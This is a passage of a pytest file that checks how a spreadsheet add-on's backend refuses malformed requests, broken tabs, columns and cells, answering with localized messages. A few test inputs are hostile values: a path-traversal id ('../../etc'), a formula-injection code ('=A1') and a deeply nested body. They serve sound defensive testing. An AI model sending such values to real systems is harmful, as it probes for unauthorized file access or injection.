"""Whatever stands in the sheet or in the request: a sentence that helps, and nothing half done."""

from __future__ import annotations

import json
import re
import uuid
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from datetime import date
from itertools import count
from typing import Any

import pytest

from emulators.world.processes import AUDIENCE
from tests.harness.assertions import assert_answer, assert_unchanged
from tests.harness.module_office import ModuleOffice, running_agency
from tests.harness.office import MANAGER, NOW, PROFILES, TEAM
from tests.harness.servers import Servers
from tests.harness.snapshots import take_snapshot
from tests.harness.stored import remove_items, stored_items
from vitrina.domain.estimating.norms import FinishedWork
from vitrina.domain.quantities import serial_of_day
from vitrina.ports import Delete
from vitrina.records.books import load_project
from vitrina.records.history import save_history
from vitrina.records.layouts import shape_key
from vitrina.trackers.kaiten.mapping import board_number
from vitrina.usecases.agency.create_agency import create_agency
from vitrina.workbook.reading.book import COLUMN_KEY, Mark, Row, Tab

_codes = (f"ВВ{number}" for number in count(1))


@pytest.fixture(scope="module")
def office(servers: Servers, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ModuleOffice]:
    """One agency; each test that writes makes a client of its own."""
    with running_agency(servers, tmp_path_factory.mktemp("office")) as office:
        assert office.agency is not None
        # Other agencies are made here too: the account of the tracker says whose it is.
        office.environment = {**office.environment, "KAITEN_AGENCY": office.agency.spreadsheet_id}
        office.restart()
        office.create_client(code=next(_codes))
        yield office


@pytest.fixture
def client(office: ModuleOffice) -> Iterator[ModuleOffice]:
    """The office with a new client. Afterwards its people are free again."""
    office.create_client(code=next(_codes))
    yield office
    remove_items(office.services.store, office.client_id)


def agency_id(office: ModuleOffice) -> str:
    """The agency's workbook."""
    assert office.agency is not None
    return office.agency.spreadsheet_id


def send(office: ModuleOffice, content: Any) -> dict[str, Any]:
    """A request of the manager with any body."""
    wanted = {"email": MANAGER, "audience": AUDIENCE}
    token = office.http.post(f"{office.servers.google}/_emulator/identity/token", json=wanted).json()
    response = office.http.post(
        f"{office.servers.functions}/menu",
        content=content if isinstance(content, bytes) else json.dumps(content).encode(),
        headers={"Authorization": f"Bearer {token['id_token']}"},
    )
    answer: dict[str, Any] = response.json()
    return {**answer, "http_status": response.status_code}


def request(office: ModuleOffice, **changes: Any) -> dict[str, Any]:
    """A request that the add-on sends, with *changes*; ``None`` takes a field out."""
    body = {
        "action": "estimate",
        "spreadsheet_id": office.client_id,
        "request_id": str(uuid.uuid4()),
        "locale": "ru",
        "params": {},
    }
    return {key: value for key, value in {**body, **changes}.items() if value is not None}


# --- Requests ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"{",
        b"null",
        b"[]",
        b'"estimate"',
        b"\xff\xfe{",
        b"action=estimate",
        b'{"action": NaN}',
        b"[" * 20_000,
    ],
)
def test_a_body_that_is_no_request(office: ModuleOffice, content: bytes) -> None:
    """The person reads a sentence, never a parser's error."""
    answer = send(office, content)

    assert_answer(answer, "refused", 400)


@pytest.mark.parametrize(
    "changes",
    [
        {"action": None},
        {"action": 5},
        {"spreadsheet_id": "../../etc"},
        {"spreadsheet_id": ""},
        {"request_id": None},
        {"request_id": "short"},
        {"params": []},
        {"locale": 7},
        {"colour": "red"},
        {"params": {"period": "current"}},  # estimate takes none
        {"action": "build_batch", "params": {"period": "year"}},
        {"action": "start_batch"},
        {"action": "start_batch", "params": {"preview_id": "a b"}},
        {"action": "operation", "params": {}},
        {"action": "operation", "params": {"operation_id": "f" * 32}},  # nobody got this id from us
    ],
)
def test_a_request_that_the_add_on_never_sends(office: ModuleOffice, changes: Mapping[str, Any]) -> None:
    """400 with a sentence; the sheet and the tracker are not touched, they are not even read."""
    office.forget_calls()

    answer = send(office, request(office, **changes))

    assert_answer(answer, "refused", 400)
    assert office.calls("google") == {}
    assert office.calls("kaiten") == {}


@pytest.mark.parametrize("locale", ["ru", "en"])
def test_an_unknown_action_is_named(office: ModuleOffice, locale: str) -> None:
    """An old sheet with a new backend, or the other way round: the sentence says to reload."""
    answer = send(office, request(office, action="teleport", locale=locale))

    assert answer["http_status"] == 400
    assert "teleport" in answer["message"]
    assert {"ru": "Обновите страницу", "en": "Reload the page"}[locale] in answer["message"]


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("client_name", "", "название клиента"),
        ("client_name", "   ", "название клиента"),
        ("project_name", "х" * 201, "название проекта"),
        ("code", "зрн", "Код проекта"),
        ("code", "З", "Код проекта"),
        ("code", "ЗРН-1", "Код проекта"),
        ("code", "=A1", "Код проекта"),
        ("limit_hours", 0, "Лимит часов"),
        ("limit_hours", -5, "Лимит часов"),
        ("limit_hours", "сорок", "Лимит часов"),
        ("limit_hours", 1e9, "Лимит часов"),
        ("period", "year", "период"),
        ("responsible", "х" * 201, "Почта ответственного"),
    ],
)
def test_a_form_that_is_filled_in_badly(office: ModuleOffice, field: str, value: Any, words: str) -> None:
    """The sentence says of the very field what is expected; no board and no workbook is made."""
    form = {"client_name": "Ц", "project_name": "П", "code": "ЦП", field: value}
    office.forget_calls()

    answer = send(office, request(office, action="new_client", spreadsheet_id=agency_id(office), params=form))

    assert_answer(answer, "refused", 400)
    assert words in answer["message"]
    assert office.calls("google") == {}
    assert office.calls("kaiten") == {}


def test_a_code_that_another_project_has(office: ModuleOffice) -> None:
    """Its items' numbers would be mistaken for each other's; the sentence names the project."""
    taken = load_project(office.services.store, office.client_id).code

    answer = office.click(
        agency_id(office), "new_client", client_name="Ц", project_name="П", code=taken, limit_hours=None
    )

    assert_answer(answer, "refused", 422)
    assert taken in answer["message"]
    assert "«Сайт»" in answer["message"]


# --- Spreadsheets --------------------------------------------------------------------------------


@pytest.mark.parametrize("locale", ["ru", "en"])
def test_a_spreadsheet_that_is_not_ours(office: ModuleOffice, locale: str) -> None:
    """404 without a look at it: somebody clicks in a spreadsheet of his own."""
    office.forget_calls()

    answer = office.manager(locale=locale).post("1someBodyElses_Spreadsheet-Id", "estimate")

    assert_answer(answer, "refused", 404, locale)
    assert office.calls("google") == {}


def test_an_action_of_the_other_kind_of_workbook(office: ModuleOffice) -> None:
    """The sentence says in which workbook the action is to be found."""
    in_agency = office.click(agency_id(office), "estimate")
    in_client = office.click(office.client_id, "recalculate_norms")

    assert_answer(in_agency, "refused", 404)
    assert "книге клиента" in in_agency["message"]
    assert_answer(in_client, "refused", 404)
    assert "книге агентства" in in_client["message"]


def test_a_workbook_that_lost_its_mark(client: ModuleOffice) -> None:
    """It is in the store, but its contents are somebody else's: nothing is written into it."""
    client.fill_backlog({"task": "Баннер", "work_type": "Баннер"})
    lookup = {"metadataKey": "vitrina.book"}
    client.services.workbooks.batch_update(
        client.client_id,
        [{"deleteDeveloperMetadata": {"dataFilter": {"developerMetadataLookup": lookup}}}],
    )
    before = take_snapshot(client)

    answer = client.do("estimate")

    assert_answer(answer, "refused", 404)
    assert_unchanged(client, before)


def test_a_workbook_that_was_deleted(client: ModuleOffice) -> None:
    """Google knows it no more, and the sentence says so."""
    client.http.delete(f"{client.servers.google}/drive/v3/files/{client.client_id}").raise_for_status()

    answer = client.do("estimate")

    assert_answer(answer, "failed", 502)
    assert "удалили" in answer["message"]


# --- Tabs, columns, fields -----------------------------------------------------------------------


def column_letter(office: ModuleOffice, tab_key: str, column: str) -> str:
    """Where a column stands now."""
    return re.sub(r"\d", "", office.book().tab(tab_key).address(Row(0, None, ()), column))


def delete_column(office: ModuleOffice, tab_key: str, column: str) -> None:
    """Delete a column as a person does."""
    tab, at = office.book().tab(tab_key), column_letter(office, tab_key, column)
    office.edit({"type": "delete_columns", "sheet": tab.title, "at": at, "count": 1})


@pytest.mark.parametrize(
    ("tab", "title", "action"),
    [
        ("backlog", "Бэклог", "estimate"),
        ("backlog", "Бэклог", "build_batch"),
        ("in_progress", "В работе", "push"),
    ],
)
def test_a_tab_that_was_deleted(client: ModuleOffice, tab: str, title: str, action: str) -> None:
    """The sentence names the tab and the workbook, and how to get it back."""
    client.edit({"type": "delete_tab", "sheet": client.book().tab(tab).title})
    before = take_snapshot(client)

    answer = client.do(action)

    assert_answer(answer, "refused", 422)
    assert f"«{title}»" in answer["message"]
    assert "«Заря — Сайт»" in answer["message"]
    assert "История версий" in answer["message"]
    assert_unchanged(client, before)


def test_a_deleted_column_is_named(client: ModuleOffice) -> None:
    """The sentence says on which tab and what it was called; a column that is not needed is not missed."""
    client.fill_backlog({"task": "Баннер", "work_type": "Баннер"})
    delete_column(client, "backlog", "reason")
    assert_answer(client.do("estimate"), "done", 200)
    delete_column(client, "backlog", "work_type")
    before = take_snapshot(client)

    answer = client.do("estimate")

    assert_answer(answer, "refused", 422)
    assert "На листе «Бэклог» нет колонки «Вид работы»" in answer["message"]
    assert "История версий" in answer["message"]
    assert_unchanged(client, before)


@contextmanager
def unmarked(office: ModuleOffice, mark: Mark, tab: Tab, title: str) -> Iterator[None]:
    """To the add-on a column without its mark and its title is a column that is gone."""
    sheet_id = tab.sheet_id
    place = {
        "sheetId": sheet_id,
        "dimension": "COLUMNS",
        "startIndex": mark.index,
        "endIndex": mark.index + 1,
    }
    metadata = {
        "metadataId": mark.metadata_id,
        "metadataKey": mark.key,
        "metadataValue": mark.value,
        "visibility": "DOCUMENT",
        "location": {"dimensionRange": place},
    }
    lookup = {"metadataId": mark.metadata_id}
    update = office.services.workbooks.batch_update

    def retitle(text: str) -> dict[str, Any]:
        start = {"sheetId": sheet_id, "rowIndex": tab.header_index, "columnIndex": mark.index}
        rows = [{"values": [{"userEnteredValue": {"stringValue": text}}]}]
        return {"updateCells": {"start": start, "rows": rows, "fields": "userEnteredValue"}}

    forget = {"deleteDeveloperMetadata": {"dataFilter": {"developerMetadataLookup": lookup}}}
    update(office.client_id, [forget, retitle("Своя колонка")])
    yield
    update(office.client_id, [{"createDeveloperMetadata": {"developerMetadata": metadata}}, retitle(title)])


@pytest.mark.parametrize(
    ("tab_key", "action", "spare"),
    [
        (
            "backlog",
            "build_batch",
            {"size", "status", "reason", "hours_total", "hours.design", "hours.copy", "hours.development"},
        ),
        ("in_progress", "refresh", {"approval", "remark", "result", "quantity"}),
    ],
)
def test_every_column_that_is_needed_is_asked_for_by_its_title(
    client: ModuleOffice, tab_key: str, action: str, spare: set[str]
) -> None:
    """Whichever column is gone: either it is not needed, or the sentence tells its title."""
    client.fill_backlog({"task": "Правка", "hours_design": "1"}, {"task": "Неясная"})
    preview_id = client.do("build_batch", period="current")["data"]["preview_id"]
    client.do("start_batch", preview_id=preview_id)
    client.do("push")
    tab = client.book().tab(tab_key)
    header = {row: cell for row, cell in contents(client, tab_key) if row.startswith(f"{tab.header_index}:")}
    titles = {
        mark.value: header[f"{tab.header_index}:{mark.index}"]["userEnteredValue"]["stringValue"]
        for mark in tab.marks
        if mark.key == COLUMN_KEY
    }
    marks = [mark for mark in tab.marks if mark.key == COLUMN_KEY]
    not_missed = set()

    for mark in marks:
        with unmarked(client, mark, tab, titles[mark.value]):
            answer = client.do(action)
        if answer["outcome"] == "done":
            not_missed.add(mark.value)
            continue
        assert_answer(answer, "refused", 422)
        assert f"«{titles[mark.value]}»" in answer["message"]

    assert not_missed == spare


def test_a_deleted_column_of_hours(client: ModuleOffice) -> None:
    """Where a norm needs it the estimate would be too small, so it is refused; else it is not missed."""
    client.fill_backlog({"task": "Баннер", "work_type": "Баннер"}, {"task": "Статья", "work_type": "Статья"})
    delete_column(client, "backlog", "hours.development")
    assert_answer(client.do("estimate"), "done", 200)
    delete_column(client, "backlog", "hours.copy")
    before = take_snapshot(client)

    answer = client.do("estimate")

    assert_answer(answer, "refused", 422)
    assert "«Тексты, ч»" in answer["message"]
    assert_unchanged(client, before)


def test_a_column_that_goes_between_preview_and_start(client: ModuleOffice) -> None:
    """Nothing is moved, and nobody's hours stay promised to what did not start."""
    client.fill_backlog({"task": "Баннер", "work_type": "Баннер"}, {"task": "Неясная"})
    client.do("estimate")
    preview_id = client.do("build_batch", period="current")["data"]["preview_id"]
    delete_column(client, "backlog", "reason")
    before = take_snapshot(client)

    answer = client.do("start_batch", preview_id=preview_id)

    assert_answer(answer, "refused", 422)
    assert "«Почему не сейчас»" in answer["message"]
    assert_unchanged(client, before)
    assert stored_items(client.services.store, spreadsheet_id=client.client_id) == []


def delete_field(office: ModuleOffice, key: str) -> None:
    """Delete the named range of a form's field."""
    url = f"{office.servers.google}/v4/spreadsheets/{office.client_id}?fields=namedRanges"
    [range_id] = [
        one["namedRangeId"]
        for one in office.http.get(url).json()["namedRanges"]
        if one["name"] == f"vt_{key}"
    ]
    office.services.workbooks.batch_update(
        office.client_id, [{"deleteNamedRange": {"namedRangeId": range_id}}]
    )


def test_a_deleted_field_is_named(client: ModuleOffice) -> None:
    """Without the limit nothing is planned; without the freshness mark all goes on."""
    client.fill_backlog({"task": "Баннер", "hours_design": "1"})
    delete_field(client, "refreshed_at")
    assert_answer(client.do("refresh"), "done", 200)
    delete_field(client, "limit_hours")
    before = take_snapshot(client)

    answer = client.do("build_batch", period="current")

    assert_answer(answer, "refused", 422)
    assert "«Лимит часов на период»" in answer["message"]
    assert_unchanged(client, before)


def test_a_field_that_is_twice_does_not_matter_but_a_column_does(client: ModuleOffice) -> None:
    """A copied tab is a person's own; of columns with one key, where none is known, both are named."""
    client.fill_backlog({"task": "Баннер", "work_type": "Баннер"})
    client.edit({"type": "duplicate_tab", "sheet": "Бэклог", "title": "Бэклог (копия)"})
    assert_answer(client.do("estimate"), "done", 200)
    client.services.store.commit([Delete(*shape_key(client.client_id))])
    tab = client.book().tab("backlog")
    place = {"sheetId": tab.sheet_id, "dimension": "COLUMNS", "startIndex": 20, "endIndex": 21}
    metadata = {
        "metadataKey": COLUMN_KEY,
        "metadataValue": "task",
        "visibility": "DOCUMENT",
        "location": {"dimensionRange": place},
    }
    client.services.workbooks.batch_update(
        client.client_id,
        [
            {"appendDimension": {"sheetId": tab.sheet_id, "dimension": "COLUMNS", "length": 10}},
            {"createDeveloperMetadata": {"developerMetadata": metadata}},
        ],
    )

    answer = client.do("estimate")

    assert answer["http_status"] == 422
    assert "колонки C и U" in answer["message"]


def test_renamed_and_moved_tabs_and_columns_keep_working(client: ModuleOffice) -> None:
    """People arrange the workbook as they like; sentences use their names."""
    client.fill_backlog({"task": "Лендинг", "work_type": "Лендинг"}, {"task": "Ой", "hours_design": "много"})
    client.edit(
        {"type": "rename_tab", "sheet": "Бэклог", "title": "Наши хотелки"},
        {"type": "rename_tab", "sheet": "В работе", "title": "Сейчас делаем"},
        {"type": "move_tab", "sheet": "Наши хотелки", "index": 4},
        {"type": "insert_columns", "sheet": "Наши хотелки", "at": "C", "count": 2},
    )
    task, hours = column_letter(client, "backlog", "task"), column_letter(client, "backlog", "hours.design")
    client.edit({"type": "move_columns", "sheet": "Наши хотелки", "at": task, "count": 1, "to": "K"})
    hours = column_letter(client, "backlog", "hours.design")
    first = client.book().tab("backlog").header_index + 1

    refused = client.do("estimate")
    assert_answer(refused, "refused", 422)
    assert [(cell["sheet"], cell["cell"]) for cell in refused["cells"]] == [
        ("Наши хотелки", f"{hours}{first + 2}")
    ]
    client.type("backlog", first + 1, **{"hours.design": "2"})
    assert_answer(client.do("estimate"), "done", 200)
    preview_id = client.do("build_batch", period="current")["data"]["preview_id"]
    started = client.do("start_batch", preview_id=preview_id)
    pushed = client.do("push")
    refreshed = client.do("refresh")

    for answer in (started, pushed, refreshed):
        assert_answer(answer, "done", 200)
    assert len(client.table("in_progress", "card")) == 4
    again = client.do("build_batch", period="current")
    assert_answer(again, "refused", 422)
    assert "«Наши хотелки»" in again["message"]


# --- Cells ---------------------------------------------------------------------------------------


def write(office: ModuleOffice, tab_key: str, row: int, column: str, value: Mapping[str, Any]) -> None:
    """Write past what the page would let a person type, as a paste or another program does."""
    tab = office.book().tab(tab_key)
    start = {"sheetId": tab.sheet_id, "rowIndex": row, "columnIndex": tab.column(column)}
    cell = {"userEnteredValue": value}
    office.services.workbooks.batch_update(
        office.client_id,
        [{"updateCells": {"start": start, "rows": [{"values": [cell]}], "fields": "userEnteredValue"}}],
    )


#: Column, what is typed, and words of the sentence.
BAD_CELLS: tuple[tuple[str, str, str], ...] = (
    ("hours.design", "'пара часов", "«пара часов» — не часы"),
    ("hours.design", "-3", "-3 ч не бывает"),
    ("hours.design", "5000", "5\u00a0000 ч не бывает"),
    ("hours.design", "1.5", "за дату 01.05.2026. Введите часы через запятую: 1,5"),  # ru_RU takes it so
    ("hours.copy", "=1/0", "в формуле ошибка"),
    ("quantity", "'много", "«много» — не количество"),
    ("quantity", "0", "«0» — не количество"),
    ("quantity", "2.5", "за дату 02.05.2026. Введите количество через запятую: 2,5"),
    ("quantity", '=VLOOKUP("нет";A1:B2;2;FALSE)', "в формуле ошибка"),
    ("wanted_on", "'скоро", "«скоро» — не дата"),
    ("wanted_on", "=1/0", "в формуле ошибка"),
    ("depends_on", "НЕТ-99", "«НЕТ-99»: такой задачи нет"),
    ("work_type", "=1/0", "в формуле ошибка"),
    ("task", "=1/0", "в формуле ошибка"),
)


def test_all_bad_cells_are_told_together(client: ModuleOffice) -> None:
    """Each with its address and what is expected there; nothing is written, not even the good rows."""
    tab = client.book().tab("backlog")
    first = tab.header_index + 1
    client.fill_backlog(*({"task": f"Задача {n}", "work_type": "Баннер"} for n in range(len(BAD_CELLS) + 2)))
    for offset, (column, typed, _) in enumerate(BAD_CELLS):
        value = (
            {"formulaValue": typed}
            if typed.startswith("=")
            else {"stringValue": typed[1:]}
            if typed.startswith("'")
            else None
        )
        if value is None:
            client.type("backlog", first + offset, **{column: typed})
        else:
            write(client, "backlog", first + offset, column, value)
    write(client, "backlog", first + len(BAD_CELLS), "priority", {"stringValue": "Вчера"})
    before = take_snapshot(client)

    answer = client.do("estimate")

    assert_answer(answer, "refused", 422)
    expected = {
        tab.address(Row(first + offset, None, ()), column): words
        for offset, (column, _, words) in enumerate(BAD_CELLS)
    }
    expected[tab.address(Row(first + len(BAD_CELLS), None, ()), "priority")] = "«Вчера» нет в списке"
    told = {cell["cell"]: cell["message"] for cell in answer["cells"]}
    assert told.keys() == expected.keys()
    assert {cell for cell, words in expected.items() if words not in told[cell]} == set()
    assert {cell["sheet"] for cell in answer["cells"]} == {"Бэклог"}
    assert f"{len(expected)} ячеек" in answer["message"]
    assert_unchanged(client, before)


def test_hours_in_every_way_in_which_people_write_them(client: ModuleOffice) -> None:
    """A comma, a pasted point, words, minutes and a formula of one's own are all understood."""
    client.fill_backlog(
        {"task": "Запятая", "hours_copy": "1,5"},
        {"task": "Точка", "hours_copy": "'1.5"},
        {"task": "Слова", "hours_copy": "1 ч 30 мин"},
        {"task": "Минуты", "hours_copy": "90 мин"},
        {"task": "Формула", "hours_copy": "=3/2"},
    )

    assert_answer(client.do("estimate"), "done", 200)
    data = client.do("build_batch", period="current")["data"]

    hours = {item["task"]: item["hours"] for item in data["chosen"]}
    assert hours == dict.fromkeys(("Запятая", "Точка", "Слова", "Минуты", "Формула"), 1.5)


def test_a_quantity_that_cannot_be_is_refused_before_its_hours_are_written(client: ModuleOffice) -> None:
    """5,000 banners of 3 hours: the quantity is named, since nobody typed the hours."""
    client.fill_backlog({"task": "Баннеры", "work_type": "Баннер", "quantity": "5000"})
    before = take_snapshot(client)

    answer = client.do("estimate")

    assert_answer(answer, "refused", 422)
    [cell] = answer["cells"]
    assert "15\u00a0000" in cell["message"]
    assert "«Дизайн»" in cell["message"]
    assert_unchanged(client, before)


def test_work_without_a_norm_is_said_and_waits(client: ModuleOffice) -> None:
    """The rest is estimated; what has no norm is marked, named, and left out with the reason."""
    client.fill_backlog(
        {"task": "Баннер", "work_type": "Баннер"},
        {"task": "Аудит", "work_type": "Аудит безопасности"},
        {"task": "Без вида"},
    )

    answer = client.do("estimate")

    assert_answer(answer, "partial", 200)
    assert [detail.partition(": ")[2] for detail in answer["details"]] == [
        "по виду работ «Аудит безопасности» ещё нет нормы",
        "не указан вид работ",
    ]
    assert client.table("backlog", "task", "source") == [
        ("Баннер", "норма"),
        ("Аудит", "нет данных"),
        ("Без вида", "нет данных"),
    ]
    left = client.do("build_batch", period="current")["data"]["left_out"]
    assert [(item["task"], item["reason"]) for item in left] == [
        ("Аудит", "нет оценки: впишите часы или вид работ"),
        ("Без вида", "нет оценки: впишите часы или вид работ"),
    ]


@pytest.mark.parametrize("action", ["estimate", "build_batch"])
def test_an_empty_backlog(client: ModuleOffice, action: str) -> None:
    """Nothing to do is said, not passed over; spaces and a lone priority are no task."""
    client.fill_backlog({"task": "   "}, {"priority": "Срочно"})
    before = take_snapshot(client)

    answer = client.do(action)

    assert_answer(answer, "refused", 422)
    assert "«Бэклог» нет ни одной задачи" in answer["message"]
    assert_unchanged(client, before)


def test_a_preview_that_nobody_made(client: ModuleOffice) -> None:
    """Nor one of another workbook can be started."""
    client.fill_backlog({"task": "Баннер", "hours_design": "1"})
    preview_id = client.do("build_batch", period="current")["data"]["preview_id"]
    client.create_client(code=next(_codes))
    client.fill_backlog({"task": "Баннер", "hours_design": "1"})

    for wanted in (preview_id, "f" * 32):
        answer = client.do("start_batch", preview_id=wanted)
        assert_answer(answer, "refused", 422)
    assert client.table("in_progress", "id") == []


def test_push_and_refresh_of_nothing(client: ModuleOffice) -> None:
    """Both say what has to come first."""
    pushed, refreshed = client.do("push"), client.do("refresh")

    assert_answer(pushed, "refused", 422)
    assert "«В работе» нет задач" in pushed["message"]
    assert_answer(refreshed, "done", 200)
    assert "Сначала отправьте задачи" in refreshed["message"]


def test_bad_cells_are_told_in_english_too(client: ModuleOffice) -> None:
    """The language of the click decides for the sentence; what stands in cells is quoted as it is."""
    client.fill_backlog({"task": "Баннер", "hours_design": "lots"}, {"task": "Статья", "hours_copy": "-1"})

    answer = client.manager(locale="en").click(client.client_id, "estimate")

    assert_answer(answer, "refused", 422, "en")
    assert [cell["message"] for cell in answer["cells"]] == [
        "“lots” is not hours. Enter a number such as 1.5, or “1 h 30 min”",
        "-1 h is not possible. Enter a number from 0 to 1,000",
    ]


# --- The agency's workbook -----------------------------------------------------------------------


@contextmanager
def agency_cells(office: ModuleOffice, *typed: tuple[str, int, str, str]) -> Iterator[dict[str, str]]:
    """Type into the agency's workbook: tab, row below the header, column, text. Taken back afterwards."""
    book = office.book(agency_id(office))
    addresses, old = {}, []
    for tab_key, offset, column, text in typed:
        tab = book.tab(tab_key)
        index = tab.header_index + 1 + offset
        row = next((row for row in tab.rows if row.index == index), Row(index, None, ()))
        addresses[f"{tab_key}.{column}.{offset}"] = tab.address(row, column)
        old.append((tab_key, index, column, tab.cell(row, column).text))
        office.type(tab_key, index, agency_id(office), **{column: text})
    yield addresses
    for tab_key, index, column, text in reversed(old):
        office.type(tab_key, index, agency_id(office), **{column: text})


def test_bad_cells_of_both_workbooks_are_told_together(client: ModuleOffice) -> None:
    """Backlog, first tab, specialists, absences and settings at once: one round of corrections."""
    client.fill_backlog({"task": "Баннер", "hours_design": "много"})
    field = client.book().field("limit_hours")
    limit = {"sheet": field.sheet_title, "cell": field.address}
    client.edit({"type": "type", **limit, "text": "сколько влезет"})
    settings = client.book(agency_id(client)).tab("settings")
    [factor] = [
        row.index - settings.header_index - 1
        for row in settings.rows
        if settings.cell(row, "key").text == "load_factor"
    ]

    with agency_cells(
        client,
        ("specialists", 0, "hours_per_day", ""),
        ("specialists", 1, "profiles", "Тексты, Магия"),
        ("specialists", 2, "hours_per_day", "25"),
        ("specialists", 3, "name", "анна белова"),
        ("absences", 0, "specialist", "Борис Ким"),
        ("absences", 0, "first_day", "27.11.2026"),
        ("absences", 0, "last_day", "24.11.2026"),
        ("absences", 1, "specialist", "Вера Орлова"),
        ("absences", 1, "last_day", "24.11.2026"),
        ("absences", 2, "specialist", "Пётр Никто"),
        ("absences", 2, "first_day", "24.11.2026"),
        ("settings", factor, "value", "5"),
    ) as at:
        before = take_snapshot(client)
        answer = client.do("build_batch", period="current")
        assert_unchanged(client, before)
    client.edit({"type": "type", **limit, "text": "100"})

    assert_answer(answer, "refused", 422)
    told = {(cell["sheet"], cell["cell"]): cell["message"] for cell in answer["cells"]}
    backlog = client.book().tab("backlog")
    expected = {
        ("Специалисты", at["specialists.hours_per_day.0"]): "у сотрудника Анна Белова не указаны часы",
        ("Специалисты", at["specialists.profiles.1"]): "Дизайн, Тексты и Разработка",
        ("Специалисты", at["specialists.hours_per_day.2"]): "25 ч в день",
        ("Специалисты", at["specialists.name.3"]): "записан дважды",
        ("Отсутствия", at["absences.last_day.0"]): "(24.11.2026) раньше, чем начинается (27.11.2026)",
        ("Отсутствия", "B" + at["absences.last_day.1"][1:]): "не указан первый день",
        ("Отсутствия", at["absences.specialist.2"]): "Пётр Никто нет на листе «Специалисты»",
        ("Настройки", at["settings.value." + str(factor)]): "не доля",
        (field.sheet_title, field.address): "«сколько влезет» — не лимит часов",
        (backlog.title, backlog.address(backlog.rows[0], "hours.design")): "«много» — не часы",
    }
    assert {place: words for place, words in expected.items() if words not in told.get(place, "")} == {}
    # The one listed twice has no hours and no profile of his own, which is told as well.
    assert len(told) == len(expected) + 2


@pytest.mark.parametrize(
    ("typed", "words"),
    [("1.5", "01.05.2026"), ("-5", "не лимит часов"), ("=1/0", "в формуле ошибка")],
)
def test_a_limit_that_cannot_be_understood_is_no_missing_limit(
    client: ModuleOffice, typed: str, words: str
) -> None:
    """An empty limit means *no limit*; a broken one must not."""
    client.fill_backlog({"task": "Баннер", "hours_design": "1"})
    field = client.book().field("limit_hours")
    client.edit({"type": "type", "sheet": field.sheet_title, "cell": field.address, "text": typed})

    answer = client.do("build_batch", period="current")

    assert_answer(answer, "refused", 422)
    [cell] = answer["cells"]
    assert (cell["sheet"], cell["cell"]) == (field.sheet_title, field.address)
    assert words in cell["message"]


def test_nobody_has_the_profile(client: ModuleOffice) -> None:
    """The item is left out with the reason; specialists without a free hour are told with the figures."""
    client.fill_backlog({"task": "Правка", "hours_development": "1"})

    with agency_cells(client, ("specialists", 2, "profiles", "Дизайн")):
        [left] = client.do("build_batch", period="current")["data"]["left_out"]
    assert left["reason"] == "нет специалиста с профилем «Разработка»"

    with agency_cells(
        client,
        ("absences", 0, "specialist", "Вера Орлова"),
        ("absences", 0, "first_day", "23.11.2026"),
        ("absences", 0, "last_day", "29.11.2026"),
    ):
        [left] = client.do("build_batch", period="current")["data"]["left_out"]
    assert left["reason"] == (
        "«Разработка» (Вера Орлова): нужно 1 ч, а рабочих часов в этом периоде нет; "
        "войдёт 30 ноября – 4 декабря; "
        "войдёт сейчас, если перенести отсутствие: Вера Орлова"
    )


#: People of a second agency: the account of the tracker is not theirs.
COLLEAGUES = [{key: value for key, value in one.items() if not key.startswith("tracker_id")} for one in TEAM]


def test_norms_without_any_history(office: ModuleOffice) -> None:
    """An agency that has finished nothing yet is told why there is nothing to average."""
    newcomer = create_agency(
        office.services, name="Новички", locale="ru", profiles=PROFILES, rows={"specialists": COLLEAGUES}
    )

    answer = office.click(newcomer.spreadsheet_id, "recalculate_norms")

    assert_answer(answer, "refused", 422)


def test_an_english_agency_reads_points_and_commas(office: ModuleOffice) -> None:
    """In an en_US workbook 1.5 is a number and a typed 1,5 is understood; its own cells are English."""
    agency = create_agency(
        office.services, name="Lighthouse", locale="en", profiles=PROFILES, rows={"specialists": COLLEAGUES}
    )
    works = {"b": FinishedWork("Banner", "design", 3.0, 1.0, NOW.date())}
    save_history(office.services.store, agency.spreadsheet_id, works)
    manager = office.manager(locale="en")
    assert_answer(manager.click(agency.spreadsheet_id, "recalculate_norms"), "done", 200, "en")
    form = {"client_name": "Sunrise", "project_name": "Shop", "code": "SUN", "limit_hours": 40}
    created = manager.click(agency.spreadsheet_id, "new_client", **form)
    assert_answer(created, "done", 200, "en")
    office.client_id = created["data"]["spreadsheet_id"]
    office.fill_backlog(
        {"task": "Banner", "work_type": "Banner"},
        {"task": "Point", "hours_copy": "1.5"},
        {"task": "Comma", "hours_copy": "1,5"},
        {"task": "Words", "hours_copy": "1 h 30 min"},
        {"task": "Date", "hours_copy": "1/5"},
    )

    refused = manager.click(office.client_id, "estimate")
    first = office.book().tab("backlog").header_index + 1
    office.type("backlog", first + 4, **{"hours.copy": "1.5"})
    estimated = manager.click(office.client_id, "estimate")
    preview = manager.click(office.client_id, "build_batch", period="current")

    assert_answer(refused, "refused", 422, "en")
    assert "Jan 5, 2026" in refused["cells"][0]["message"]
    assert_answer(estimated, "done", 200, "en")
    hours = {item["task"]: item["hours"] for item in preview["data"]["chosen"]}
    assert hours == {"Banner": 3.0, "Point": 1.5, "Comma": 1.5, "Words": 1.5, "Date": 1.5}
    assert [source for (source,) in office.table("backlog", "source")][:2] == ["norm", "specialist"]


# --- What belongs to people, and text from outside ------------------------------------------------


def contents(office: ModuleOffice, tab_key: str) -> list[tuple[str, dict[str, Any]]]:
    """All cells of a tab that hold something typed or noted, with their addresses."""
    tab = office.book().tab(tab_key)
    url = f"{office.servers.google}/v4/spreadsheets/{office.client_id}"
    fields = "sheets(properties.sheetId,data.rowData.values(userEnteredValue,note))"
    sheets = office.http.get(url, params={"fields": fields}).json()["sheets"]
    [sheet] = [one for one in sheets if one["properties"].get("sheetId", 0) == tab.sheet_id]
    return [
        (f"{row}:{column}", cell)
        for row, line in enumerate(sheet["data"][0].get("rowData", ()))
        for column, cell in enumerate(line.get("values", ()))
        if cell
    ]


def test_what_people_add_survives(client: ModuleOffice) -> None:
    """Own columns, formulas, notes and remarks stay through estimate, start, push and refresh."""
    client.fill_backlog(
        {"task": "Неясная"},
        {"task": "Баннер", "work_type": "Баннер", "hours_copy": "=1+1"},
    )
    first = client.book().tab("backlog").header_index + 1
    client.edit({"type": "insert_columns", "sheet": "Бэклог", "at": "D", "count": 1})
    task = client.book().tab("backlog").address(Row(first, None, ()), "task")
    client.edit(
        {"type": "type", "sheet": "Бэклог", "cell": f"D{first}", "text": "Наша пометка"},
